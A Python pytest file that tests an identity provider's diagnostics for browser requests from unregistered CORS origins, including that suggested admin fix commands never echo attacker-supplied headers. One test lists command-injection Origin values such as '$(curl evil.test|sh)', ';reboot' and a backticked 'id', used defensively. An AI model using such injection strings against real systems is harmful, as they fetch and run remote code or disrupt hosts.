"""Q2: code in a browser calls from an origin that nobody registered. Anybody can, so it accuses nobody."""

from __future__ import annotations

import pytest

from idp.admin import symptoms
from idp.admin.actor import of_shell
from idp.answers.symptoms import Symptom
from idp.answers.symptoms.evidence import Count, Evidence
from idp.answers.symptoms.origins import MAX_NEW
from idp.answers.symptoms.rules.origin import unknown
from idp.traffic import ORIGIN, shown_origin
from tests.provider import VERIFIER, App, Provider

SPA = "https://spa.example"


def found(provider: Provider, app: App, code: str = "origin_unknown") -> Symptom | None:
    """The symptom of this code, as an admin reads it."""
    client = provider.services.registry.get(app.id)
    actor = of_shell("root")
    return next((one for one in symptoms.of_application(provider.services, actor, client) if one.code == code), None)


def preflight(provider: Provider, origin: str, path: str = "oauth/token") -> None:
    """What a browser asks before its script may."""
    headers = {"Origin": origin, "Access-Control-Request-Method": "POST"}
    assert provider.browser().open("OPTIONS", path, headers=headers).status in (204, 404, 405)


@pytest.mark.parametrize(
    ("origin", "says"),
    [
        ("https://spa.example:8443", "port"), ("http://spa.example", "scheme"), ("https://www.spa.example", "host"),
        ("https://staging.spa.example", "host"),
    ],
)  # fmt: skip
def test_Q2_a_preflight_of_an_unknown_origin_is_told_to_the_nearest_application(
    provider: Provider, origin: str, says: str
) -> None:
    spa = provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    other = provider.add_client("Other", "spa", redirect_uris=["https://other.test/cb"])
    preflight(provider, origin)
    symptom = found(provider, spa)
    assert symptom is not None
    assert (symptom.side, symptom.field, symptom.got, symptom.times) == ("doorward", "allowed_origins", origin, 1)
    assert says in symptom.causes[0].what
    assert f"allowed_origins+={origin}" in symptom.causes[0].fix
    assert not symptom.proven
    assert found(provider, other) is None


def test_Q2_a_token_request_of_a_browser_names_its_application_whatever_its_origin(
    provider: Provider,
) -> None:
    provider.add_person("ann")
    spa = provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    code = provider.sign_in(provider.browser(), spa).code
    data = {"grant_type": "authorization_code", "code": code, "code_verifier": VERIFIER, "client_id": spa.id}
    data |= {"redirect_uri": spa.redirect_uri}
    answer = provider.browser().post("oauth/token", data, headers={"Origin": "https://elsewhere.test"})
    assert answer.status == 200
    symptom = found(provider, spa)
    assert symptom is not None
    assert symptom.got == "https://elsewhere.test"


def test_Q2_a_registered_origin_and_a_server_are_no_symptom(provider: Provider) -> None:
    provider.add_person("ann")
    spa = provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    web = provider.add_client("CRM")
    preflight(provider, SPA)
    provider.tokens(spa)
    provider.tokens(web)
    assert found(provider, spa) is None
    assert found(provider, web) is None


def test_Q2_no_stranger_grows_the_table_by_made_up_origins(provider: Provider) -> None:
    from idp.answers.symptoms import keep
    from idp.answers.symptoms.store import ACTIVE

    provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    for n in range(5 * MAX_NEW):
        preflight(provider, f"https://made-up-{n}.test")
    sql, _, _ = provider.counted(lambda: keep(provider.services))
    assert len(sql) <= 6 * MAX_NEW + 10  # a handful of lookups, however many origins came
    assert provider.services.db.all(ACTIVE, since=0.0, after="", many=100) == []


@pytest.mark.parametrize(
    "origin",
    [
        f"{SPA}$(curl evil.test|sh)", f"{SPA};reboot", f"{SPA}`id`", f"{SPA} && id", f"{SPA}\tx", "null", f"{SPA}/",
        f"{SPA}:80800000", "https://spa.example'x", "https://u@spa.example", "ftp://spa.example", "https://[::1",
    ],
)  # fmt: skip
def test_Q2_what_is_no_origin_of_a_page_is_put_before_nobody(provider: Provider, origin: str) -> None:
    """Anybody writes this header, and it would stand in a command that an admin copies."""
    spa = provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    data = {"grant_type": "authorization_code", "client_id": spa.id}
    provider.browser().post("oauth/token", data, headers={"Origin": origin})
    assert found(provider, spa) is None
    # Nor where it was kept before this was so.
    count = Count(1, 1.0, 1.0, {0: 1}, {"origin": origin, "preflight": True})
    client = provider.services.registry.get(spa.id)
    assert not [*unknown(Evidence(client=client, now=2.0, counts={ORIGIN: count}))]


@pytest.mark.parametrize("origin", ["https://spa.example.evil.test", "https://spa-example.test", "https://[::1]:8443"])
def test_Q2_a_host_that_is_none_of_the_applications_stands_in_no_command(provider: Provider, origin: str) -> None:
    spa = provider.add_client("Spa", "spa", redirect_uris=["https://spa.example/cb"])
    data = {"grant_type": "authorization_code", "client_id": spa.id}
    provider.browser().post("oauth/token", data, headers={"Origin": origin})
    symptom = found(provider, spa)
    assert symptom is not None
    assert symptom.got == origin
    assert symptom.causes[0].fix.endswith(f"doorward client set {spa.id} allowed_origins+=…")


def test_Q2_what_was_kept_of_an_origin_is_read_as_it_was() -> None:
    """So that the test of those that are none would find one."""
    assert shown_origin(f"{SPA}:8443") == f"{SPA}:8443"
    assert shown_origin("http://[2001:db8::1]:80") == "http://[2001:db8::1]:80"
    assert not shown_origin(f"{SPA}\n")
